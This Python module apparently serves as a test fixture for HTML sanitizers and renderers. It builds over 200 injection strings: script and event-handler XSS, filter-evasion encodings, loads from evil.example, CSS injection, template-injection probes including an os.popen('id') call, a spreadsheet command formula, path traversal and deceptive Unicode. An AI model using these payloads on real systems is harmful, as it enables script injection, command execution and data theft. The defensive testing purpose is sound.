"""Texts that try to be more than text: each in a way of its own, told apart by a number."""

_CALL = "window.pwned=(window.pwned||[]).concat([{n}])"

_SCRIPTS = [
    "<script>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "</script><script>{call}</script>",
    "</style><script>{call}</script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</noscript><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<script src=https://evil.example/{n}.js></script>",
    "<script type=module>import 'https://evil.example/{n}.js'</script>",
    "<script/src=data:,{call}></script>",
    "\x00<script>{call}</script>",
    "<script\x0c>{call}</script>",
    "<!--<script>--><script>{call}</script>",
    "</script\t><script>{call}</script >",
    "'\"><script>{call}</script>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "＜script＞{call}＜/script＞",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
]

_TAGS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "iframe",
    "object data=x",
    "embed src=x",
    "math",
    "table",
    "select autofocus",
    "textarea autofocus",
    "form",
    "style",
    "link rel=stylesheet href=x",
    "a href=x autofocus tabindex=1",
    "video><source",
]

_EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart"]

_MARKUP = [
    "<a href='javascript:{call}'>{n}</a>",
    "<a href='data:text/html,<script>{call}</script>'>{n}</a>",
    "<iframe src='javascript:{call}'></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<object data='data:text/html,<script>{call}</script>'></object>",
    "<embed src='https://evil.example/{n}'>",
    "<base href='https://evil.example/{n}/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=prefetch href='https://evil.example/{n}'>",
    "<img src='https://evil.example/{n}.png'>",
    "<img srcset='https://evil.example/{n}.png 2x'>",
    "<form action='https://evil.example/{n}'><button autofocus>go</button></form>",
    "<template><script>{call}</script></template>",
    "<dialog open>{n}</dialog>",
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "</body></html>",
    "</div></div></section></main>",
    "</table></td></tr>",
    "</pre></details>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE svg>",
]

_SVG = [
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><use href='https://evil.example/{n}.svg#x'/></svg>",
    "<svg><image href='https://evil.example/{n}.png'/></svg>",
    "<svg><a xlink:href='javascript:{call}'><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:{call}'/></svg>",
    "<svg><foreignObject><iframe src=x></foreignObject></svg>",
    "</title></svg><script>{call}</script>",
    "<math><mtext><style><img src=x onerror={call}></style></mtext></math>",
    "<svg><style>@import 'https://evil.example/{n}.css'</style></svg>",
    "</g></defs></svg><script>{call}</script>",
]

_CSS = [
    "</style><style>*{{display:none}}</style>",
    "<style>body{{display:none!important}}</style>",
    "<div style='position:fixed;inset:0;background:red'>{n}</div>",
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<p style=\"background:url('https://evil.example/{n}.png')\">",
    "expression({call})",
    "-moz-binding:url(https://evil.example/{n})",
    "}} * {{ display: none }}",
    "<style>@font-face{{font-family:x;src:url(https://evil.example/{n})}}</style>",
    "var(--x);background:url(https://evil.example/{n})",
    "<h1 style='font-size:9999px'>{n}</h1>",
]

_TEMPLATES = [
    "{{{{ 7 * 7 }}}}",
    "{{% for x in y %}}",
    "{{# comment #}}",
    "${{7*7}}",
    "<%= 7*7 %>",
    "#{{7*7}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "[[${{7*7}}]]",
    "{{{{config}}}}",
    "datum['constructor']['constructor']('{call}')()",
    "'+{call}+'",
    '"+{call}+"',
    "`${{{call}}}`",
    '\\");{call}//',
    "\\';{call}//",
    "%s %d %(x)s {{0}} {{x!r}}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
]

_UNSEEN = [
    "\u202egnp.exe {n}",
    "\u2066{n}\u2069",
    "\u200b\u200b{n}",
    "\ufeff{n}",
    "\u2028{n}\u2029",
    "\x1b[31m{n}\x1b[0m",
    "\x07\x08\x7f{n}",
    "e\u0301" * 50 + "{n}",
    "Z̷̡̛a̸l̵g̶o" * 20,
    "\U000e0041\U000e0042{n}",
    "\ue000\uf8ff{n}",
    "\ufffd\ufffe{n}",
    "مرحبا بالعالم {n}",
    "‏{n}‎",
    "👩‍👩‍👧‍👦{n}",
    b"\xff\xfe\xc0\xaf\xed\xa0\x80".decode("utf-8", "replace") + "{n}",
    "\t\t\t{n}\r\n\r\n",
    "\u3164{n}",
    "",
    " ",
    "=cmd|'/c calc'!A1",
    "@everyone {n}",
    "\\\\evil\\share",
    "..\\..\\{n}",
    "\u0000",
]

_LONG = ["x" * 1_000_000, "<b>" * 100_000, "\n" * 20_000, "word " * 60_000, "&amp;" * 50_000]


def payloads() -> list[str]:
    """More than 200 texts, no two alike; those that run set ``window.pwned``."""
    handlers = [f"<{tag} {event}={{call}}>" for tag in _TAGS for event in _EVENTS]
    shapes = [*_SCRIPTS, *handlers, *_MARKUP, *_SVG, *_CSS, *_TEMPLATES, *_UNSEEN]
    return [shape.format(n=n, call=_CALL.format(n=n)) for n, shape in enumerate(shapes)] + _LONG
